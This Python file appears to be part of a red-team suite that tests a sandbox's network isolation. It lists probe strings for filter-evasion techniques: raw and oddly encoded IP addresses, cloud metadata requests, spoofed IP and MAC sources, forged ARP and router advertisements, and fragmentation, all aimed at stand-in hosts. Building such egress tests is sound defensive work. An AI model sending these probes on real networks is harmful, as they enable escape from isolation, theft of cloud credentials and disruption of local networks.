"""Frames and packets: addresses that nobody gave a name, addresses of others, protocols that no rule is about."""

from hatchway.redteam.attacks.attack import INDEX, SOURCE, Attack, table

_ADDRESSES = {"address": "203.0.113.9", "another-net": "198.51.100.7", "allowed-sites-own": "index.test"}
_MARTIANS = {"loopback": "127.0.0.1", "loopback-high": "127.255.255.254", "unspecified": "0.0.0.0"}
_ODD = {
    "unspecified": "0.0.0.0",
    "broadcast": "255.255.255.255",
    "multicast": "224.0.0.1",
    "reserved": "240.0.0.1",
    "link-broadcast": "10.200.0.255",
}
_METADATA = {"aws": "169.254.169.254", "alibaba": "100.100.100.200", "azure": "168.63.129.16"}
_PROTOCOLS = {
    "icmp": 1,
    "ipip": 4,
    "igmp": 2,
    "dccp": 33,
    "ipv6-in-ipv4": 41,
    "gre": 47,
    "esp": 50,
    "sctp": 132,
    "udp-lite": 136,
    "experimental": 253,
}
_EMBEDDED = {
    "mapped": "::ffff:203.0.113.9",
    "nat64": "64:ff9b::cb00:7109",
    "6to4": "2002:cb00:7109::1",
    "compatible": "::203.0.113.9",
    "teredo": "2001:0:cb00:7109::1",
    "metadata-mapped": "::ffff:169.254.169.254",
}


def _syn(**more: str) -> str:
    arguments = "".join(f", {key}={value}" for key, value in more.items())
    return f"frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B){arguments}))"


ATTACKS: tuple[Attack, ...] = (
    *table("N01", "An address instead of a name", {
        **{f"{name}-http": f"tcp(facts['zone'].get('{to}', '{to}'), 80, b'GET /' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')" for name, to in _ADDRESSES.items()},
        **{f"{name}-tls": f"tls(facts['zone'].get('{to}', '{to}'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n', 'index.test')" for name, to in _ADDRESSES.items()},
        "octets": "tcp('203.0.113.9', 8080, B)",
    }),
    *table("N02", "An address written in another way, as Host of an allowed site", {
        name: f"site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: ' + {host!r}.encode() + b'\\r\\n\\r\\n')"
        for name, host in {"decimal": "3405803785", "hexadecimal": "0xcb.0x0.0x71.0x9", "octal": "0313.0.0161.011", "short": "203.28937",
                           "circled": "①②⑦.0.0.1", "ideographic-dots": "203。0。113。9"}.items()
    }),
    *table("N03", "IPv6", {
        "frame-tcp": "p = tcp4('0.0.0.0', 80, B); frame(ip6('2001:db8::5', 6, p), kind=0x86dd)",
        "frame-udp": "frame(ip6('2001:db8::5', 17, udp4('0.0.0.0', 53, B)), kind=0x86dd)",
        "frame-icmp": "frame(ip6('2001:db8::5', 58, b'\\x80\\0\\0\\0' + B), kind=0x86dd)",
        "multicast": "frame(ip6('ff02::1', 17, udp4('0.0.0.0', 5353, B), src='fe80::2'), kind=0x86dd)",
    }),
    *table("N05", "IPv4 within an IPv6 address", {
        name: f"frame(ip6('{to}', 6, tcp4('0.0.0.0', 80, B)), kind=0x86dd)" for name, to in _EMBEDDED.items()
    }),
    *table("N06", "Loopback on the wire", {
        **{f"{name}-by-hand": f"by_hand('{to}', facts['port'], B)" for name, to in _MARTIANS.items() if name != "unspecified"},
        **{f"{name}-datagram": f"frame(ip4('{to}', 17, udp4('{to}', facts['port'], B)))" for name, to in _MARTIANS.items()},
        "from-loopback": "frame(ip4('203.0.113.9', 17, udp4('203.0.113.9', 53, B, src='127.0.0.1'), src='127.0.0.1'))",
    }),
    *table("N07", "Addresses that mean nobody or everybody", {
        **{f"{name}-tcp": f"frame(ip4('{to}', 6, tcp4('{to}', facts['port'], B)))" for name, to in _ODD.items()},
        **{f"{name}-udp": f"frame(ip4('{to}', 17, udp4('{to}', facts['port'], B)), to=b'\\xff' * 6)" for name, to in _ODD.items()},
    }),
    *table("N08", "Somebody else's source address", {
        "datagram": "frame(ip4('203.0.113.9', 17, udp4('203.0.113.9', 53, B, src='192.0.2.77'), src='192.0.2.77'))",
        "handshake": "by_hand('203.0.113.9', 80, B, src='10.200.0.77'); frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B, src='10.200.0.77'), src='10.200.0.77'))",
        "second-address": "with another_address('10.200.0.99'): tcp('203.0.113.9', 80, B, source='10.200.0.99')",
        "gateways-own": "frame(ip4('203.0.113.9', 17, udp4('203.0.113.9', 53, B, src='10.200.0.1'), src='10.200.0.1'))",
        "of-a-site": "frame(ip4('203.0.113.9', 17, udp4('203.0.113.9', 53, B, src=facts['zone']['index.test']), src=facts['zone']['index.test']))",
    }),
    *table("N10", "Somebody else's IPv6 source address", {
        name: f"frame(ip6('2001:db8::5', 6, tcp4('0.0.0.0', 80, B), src='{src}'), kind=0x86dd)"
        for name, src in {"link-local": "fe80::99", "global": "2001:db8::99", "loopback": "::1", "unspecified": "::"}.items()
    }),
    *table("N11", "Foreign hardware addresses", {
        "source": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), source=b'\\2\\0\\0\\0\\0\\x99')",
        "to-all": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), to=b'\\xff' * 6)",
        "to-another": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), to=b'\\2\\0\\0\\0\\0\\x98')",
        "to-a-group": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), to=b'\\1\\0\\x5e\\0\\0\\1')",
    }),
    *table("N12", "Forged ARP", {
        "claims-the-gateway": "a = my_mac() + socket.inet_aton('10.200.0.1'); frame(b'\\0\\1\\x08\\0\\6\\4\\0\\2' + a + b'\\xff' * 6 + socket.inet_aton('10.200.0.1') + B, kind=0x0806)",
        "gratuitous": "a = my_mac() + socket.inet_aton('10.200.0.50'); frame(b'\\0\\1\\x08\\0\\6\\4\\0\\1' + a + b'\\0' * 6 + socket.inet_aton('10.200.0.50') + B, kind=0x0806, to=b'\\xff' * 6)",
    }),
    *table("N13", "Forged messages of routers", {
        "advertisement": "frame(ip6('ff02::1', 58, b'\\x86\\0\\0\\0\\x40\\0\\7\\x08' + b'\\0' * 8 + B, src='fe80::1'), kind=0x86dd)",
        "redirect": "frame(ip6('ff02::1', 58, b'\\x89\\0\\0\\0\\0\\0\\0\\0' + b'\\0' * 32 + B, src='fe80::1'), kind=0x86dd)",
        "redirect-of-ipv4": "frame(ip4('10.200.0.1', 1, b'\\5\\1\\0\\0' + socket.inet_aton('10.200.0.2') + B))",
    }),
    *table("N15", "Tags of VLANs", {
        "priority": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), tags=b'\\x81\\0\\0\\0')",
        "vid-5": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), tags=b'\\x81\\0\\0\\5')",
        "two-of-them": "frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B)), tags=b'\\x88\\xa8\\0\\0\\x81\\0\\0\\0')",
    }),
    *table("N16", "IP options", {
        "record-route": _syn(options="b'\\7\\7\\4\\0\\0\\0\\0\\0'"),
        "loose-source-route": _syn(options="b'\\x83\\7\\4' + socket.inet_aton('203.0.113.9') + b'\\0'"),
        "strict-source-route": _syn(options="b'\\x89\\7\\4' + socket.inet_aton('203.0.113.9') + b'\\0'"),
        "timestamp": _syn(options="b'\\x44\\x08\\5\\0' + b'\\0' * 4"),
    }),
    *table("N17", "IPv6 extension headers", {
        name: f"frame(ip6('2001:db8::5', {number}, b'\\6\\0' + b'\\0' * 6 + tcp4('0.0.0.0', 80, B)), kind=0x86dd)"
        for name, number in {"hop-by-hop": 0, "routing": 43, "destination": 60}.items()
    }),
    *table("N18", "Fragments", {
        "first": _syn(frag="0x2000"),
        "later": _syn(frag="0x0004"),
        "overlapping": _syn(frag="0x2000") + "; " + _syn(frag="0x0001"),
        "reserved-bit": _syn(frag="0x8000"),
        "ipv6-atomic": "frame(ip6('2001:db8::5', 44, b'\\6\\0\\0\\0' + B[:4] + tcp4('0.0.0.0', 80, B)), kind=0x86dd)",
    }),
    *table("N20", "Other protocols", {name: f"frame(ip4('203.0.113.9', {number}, b'\\0' * 8 + B))" for name, number in _PROTOCOLS.items()}),
    *table("N20", "Other kinds of frames", {
        f"kind-{kind:04x}": f"frame(b'\\0' * 8 + B, kind={kind:#x}, to=b'\\xff' * 6)" for kind in (0x88cc, 0x8863, 0x88b5, 0x0842)
    }),
    *table("N21", "UDP", {
        "quic": "udp(addr('index.test'), 443, b'\\xc0\\0\\0\\0\\1' + B)",
        "to-an-address": "udp('203.0.113.9', 443, B)",
        "wireguard": "udp('203.0.113.9', 51820, b'\\1\\0\\0\\0' + B)",
        "ntp": "udp('203.0.113.9', 123, b'\\x23' + B)",
        "syslog": "udp('203.0.113.9', 514, b'<14>' + B)",
    }),
    *table("N22", "Names on the local link", {
        "mdns": "udp('224.0.0.251', 5353, query(labels_of(M + '.local')))",
        "llmnr": "udp('224.0.0.252', 5355, query(labels_of(M)))",
        "ssdp": "udp('239.255.255.250', 1900, b'M-SEARCH * HTTP/1.1\\r\\nST: ' + B + b'\\r\\n\\r\\n')",
        "netbios": "udp('10.200.0.255', 137, B)",
    }),
    *table("N23", "Urgent data", {
        "in-the-request": "tcp(addr('clear.test'), 80, b'GET /simple/../' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n', urgent=b'!')",
        "to-an-address": "tcp('203.0.113.9', 80, B, urgent=b'!')",
    }),
    *table("N25", "Odd segments", {
        name: f"frame(ip4('203.0.113.9', 6, tcp4('203.0.113.9', 80, B, flags={flags})))"
        for name, flags in {"ack-alone": 16, "christmas-tree": 0x29, "nothing": 0, "syn-fin": 3, "reset": 4, "all": 0xff}.items()
    }),
    *table("N28", "Payloads for helpers of connection tracking", {
        "ftp": "tcp('203.0.113.9', 22, b'PORT 203,0,113,9,0,80\\r\\n' + B)",
        "sip": "udp('203.0.113.9', 5060, b'REGISTER sip:' + B + b' SIP/2.0\\r\\n')",
    }),
    *table("N31", "This host's own addresses", {
        **{f"address-{number}": f"tcp(facts['here'][{number} % len(facts['here'])], facts['port'], B)" for number in (0, 2)},
        "gateways-address": "tcp('10.200.0.1', facts['port'], B)",
        "as-host": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n')",
        "localhost": "tls(addr('localhost.' + 'test'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n', 'localhost')",
    }),
    *table("N32", "Metadata services", {
        **{f"{name}-{port}": f"tcp('{to}', {port}, b'GET /latest/' + B + b' HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n')" for name, to in _METADATA.items() for port in (80, 8080)},
        "as-host": "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n')",
        "by-name": "tcp(addr('metadata.internal'), 80, b'GET /' + B + b' HTTP/1.1\\r\\nHost: metadata.internal\\r\\n\\r\\n')",
    }),
    *table("N33", "Other tenants and private networks", {
        "private-service": "tcp(facts['zone']['private.test'], 8080, B)",
        "private-service-tls": "tls(facts['zone']['private.test'], b'GET /' + B + b' HTTP/1.1\\r\\nHost: private.test\\r\\n\\r\\n', 'private.test')",
        "tenants-site": "tls(facts['zone']['tenant.test'], b'GET /' + B + b' HTTP/1.1\\r\\nHost: tenant.test\\r\\n\\r\\n', 'tenant.test')",
        "next-to-me": "frame(ip4('10.200.0.3', 17, udp4('10.200.0.3', facts['port'], B)))",
    }),
    *table("N30", "Ports of the gateway's own", {
        **{f"port-{port}": f"tcp('10.200.0.1', {port}, B)" for port in (22, 80, 443, 8080, 9090)},
        "listener-tcp": "tcp('10.200.0.1', 15001, B)",
        "listener-dns": "tcp('10.200.0.1', 15053, B)",
    }, (INDEX, SOURCE)),
)  # fmt: skip
